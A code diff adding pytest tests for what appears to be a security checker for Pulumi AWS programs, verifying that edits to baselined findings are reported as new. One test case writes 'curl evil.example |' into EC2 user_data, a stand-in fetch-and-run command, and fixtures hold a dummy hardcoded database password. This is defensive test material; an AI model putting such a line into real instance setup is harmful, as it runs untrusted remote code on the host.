@@ -162,6 +162,9 @@ def test_baseline_accepts_the_same_or_less(program: Path, check: Check, tmp_path
     assert check(*GATE)[0] == 1
     write_baseline(program, file)
     assert "hunter2" not in file.read_text()
+    main_file.write_text(_public(["s3:GetObject", "s3:ListBucket"], address).replace("9Xk2", "x"))
+    code, results = check(*GATE, "--baseline", str(file))
+    assert (code, "in the baseline, but secretString changed" in str(results)) == (1, True)
     accepted = (*GATE, "--baseline", str(file))
     for same in (["s3:ListBucket", "s3:GetObject"], "s3:GetObject", ["s3:Get*"]):
         main_file.write_text(_public(same, address))
@@ -181,6 +184,48 @@ def test_baseline_accepts_the_same_or_less(program: Path, check: Check, tmp_path
     )
     main_file.write_text(renamed.replace("}]}))", f"}}]}}), opts={alias})"))
     assert check(*accepted)[0] == 0
+
+
+FOREIGN = """
+import pulumi_aws as aws, pulumi, json
+opts = pulumi.ResourceOptions(provider=aws.Provider("p", allowed_account_ids=["123456789012"]))
+aws.s3.BucketPolicy("p", bucket="acme", opts=opts, policy=json.dumps({"Statement": [
+    {"Effect": "Allow", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::acme/*",
+     "Principal": {"AWS": "arn:aws:iam::999999999999:role/deploy-1234567"}}]}))
+aws.lambda_.Function("f", role="r", opts=opts, environment={"variables": {
+    "LEVEL": "info", "DB_PASSWORD": "hunter2-9Xk2"}})
+aws.ec2.Instance("i", opts=opts, user_data="export DB_PASSWORD=hunter2-9Xk2; printenv LEVEL")
+"""
+
+
+@pytest.mark.parametrize(
+    ("before", "after", "rule"),
+    [
+        ("deploy-1234567", "deploy-7654321", "GH-S3-012"),
+        ('"hunter2-9Xk2"', '"hunter3-9Xk2"', "GH-LAM-003"),
+        ('"info"', '"debug"', ""),
+        ("printenv", "curl evil.example |", "GH-EC2-005"),
+    ],
+)
+def test_other_text_of_an_accepted_finding_is_new(
+    program: Path, check: Check, tmp_path: Path, before: str, after: str, rule: str
+) -> None:
+    file = tmp_path / "baseline.json"
+    gate = ("--only", "GH-S3-012", "--only", "GH-LAM-003", "--only", "GH-EC2-005")
+    (program / "__main__.py").write_text(FOREIGN)
+    assert {row["ruleId"] for row in check(*gate)[1]} == {"GH-S3-012", "GH-LAM-003", "GH-EC2-005"}
+    write_baseline(program, file)
+    (program / "__main__.py").write_text(FOREIGN.replace(before, after))
+    code, results = check(*gate, "--baseline", str(file))
+    new = {row["ruleId"] for row in results if row["baselineState"] == "new"}
+    assert (code, new) == ((1, {rule}) if rule else (0, set()))
+
+
+def test_unknown_value_is_not_compared() -> None:
+    found = replace(violation(), facts={"": {"policy": {"Statement": [{"Action": "unknown"}]}}})
+    [known] = baseline.of_findings("known", [found]).apply([found])[0]
+    assert (known.is_known, known.is_compared) == (True, False)
+    assert "policy is unknown and not compared" in known.message
 
 
 def test_entry_matches_one_finding() -> None:
